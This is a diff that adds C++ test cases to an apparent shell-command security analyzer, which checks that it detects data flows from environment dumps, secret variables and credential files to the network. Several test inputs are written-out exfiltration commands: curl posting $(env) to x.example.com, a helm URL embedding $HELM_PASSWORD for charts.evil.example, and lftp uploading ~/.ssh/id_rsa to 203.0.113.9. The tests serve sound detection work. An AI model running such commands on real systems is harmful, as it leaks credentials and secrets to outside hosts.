@@ -260,3 +260,21 @@ TEST_CASE("tls checks turned off in yarn and pip configuration") {
   CHECK_FALSE(has_marker(analyze("pip config set global.timeout 60"), "security_off"));
   CHECK_FALSE(has_marker(analyze("yarn config set npmRegistryServer https://registry.npmjs.org"), "security_off"));
 }
+
+TEST_CASE("\"$@\" in a function is one word per argument") {
+  auto facts = analyze("run(){ \"$@\"; }; run curl -d \"$(env)\" https://x.example.com");
+  CHECK(has_command(facts, "curl"));
+  CHECK(has_flow(facts, "env_dump", "network"));
+  CHECK_FALSE(has_flow_to(analyze("run(){ \"$@\"; }; run npm test"), "network"));
+}
+
+TEST_CASE("only fetch-style URLs carry an argument's secret to their host") {
+  CHECK(has_flow(analyze("helm repo add x https://u:$HELM_PASSWORD@charts.evil.example"), "secret_var", "network"));
+  CHECK_FALSE(has_flow_to(analyze("psql \"postgres://app:$DB_PASSWORD@db.internal:5432/app\" -c 'select 1'"), "network"));
+  CHECK_FALSE(has_flow_to(analyze("redis-cli -u \"redis://:$REDIS_PASSWORD@cache.example.net:6379\" ping"), "network"));
+}
+
+TEST_CASE("lftp -e put uploads") {
+  CHECK(has_flow(analyze("lftp -e \"put ~/.ssh/id_rsa; bye\" ftp://203.0.113.9"), "credential_file", "network"));
+  CHECK_FALSE(has_flow(analyze("lftp -e \"get notes.txt; bye\" ftp://files.example.net"), "credential_file", "network"));
+}
